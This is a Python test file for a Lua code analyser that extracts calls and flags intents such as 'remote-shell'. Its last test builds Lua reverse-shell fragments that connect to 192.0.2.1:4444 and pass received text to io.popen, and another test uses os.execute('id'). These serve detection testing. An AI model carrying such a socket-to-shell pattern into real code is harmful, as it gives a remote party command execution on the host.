"""The cases of cases.yml, and what holds for every text."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from perilune.analysis import lua
from perilune.analysis.lua.apis import packaged
from perilune.analysis.lua.sources import explain
from perilune.analysis.lua.work import Waiting, Work
from perilune.model.lua import Call
from tests.analysis.lua.programs import program

CASES: list[dict[str, Any]] = yaml.safe_load((Path(__file__).parent / "cases.yml").read_text(encoding="utf-8"))


def _work(text: str) -> Work:
    work = Work(packaged())
    explain(work, Waiting(text.encode("latin-1"), "given", sure=True))
    return work


def _shown(call: Call) -> str:
    return f"{call.name}({', '.join('?' if a is None else chr(34) + a + chr(34) for a in call.arguments)})"


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["about"])
def test_case(case: dict[str, Any]) -> None:
    work = _work(case["text"])
    assert [_shown(call) for call in work.calls] == case["calls"]
    assert set(case.get("marks", ())) <= {mark.name for mark in work.marks}


def test_a_span_is_the_call_in_characters_also_behind_other_letters() -> None:
    text = 'local s = "grüße €" os.execute("id")'
    work = Work(packaged())
    explain(work, Waiting(text.encode(), "given", sure=True))
    (call,) = work.calls
    assert work.layers[0].text[call.start : call.end] == 'os.execute("id")'


@settings(max_examples=60, deadline=None)
@given(st.integers(0, 100_000))
def test_the_same_text_gives_the_same_result(seed: int) -> None:
    assert _work(program(seed)).calls == _work(program(seed)).calls


@settings(max_examples=150, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(list("osexcuteload_G[]().\"'..=,;{}functionend \n0123456789#-+")), max_size=200)
)
def test_any_text_is_read(text: str) -> None:
    _work(text)


@pytest.mark.parametrize(
    "between",
    [
        "local c = s:receive() ",
        "local t = {} t.c = s:receive() local c = t.c ",
        "local function get() return s:receive('*l') end local c = get() ",
    ],
)
def test_a_remote_shell_is_where_what_is_received_is_what_is_started(between: str) -> None:
    start = "local s = require('socket').tcp() s:connect('192.0.2.1', 4444) "
    assert "remote-shell" in lua.analyze((start + between + "io.popen(c)").encode()).intents
    apart = lua.analyze((start + "local c = 'python ' .. arg[1] io.popen(c) print(s:receive())").encode())
    assert {"network-and-process", "socket-receive"} <= set(apart.intents) and "remote-shell" not in apart.intents
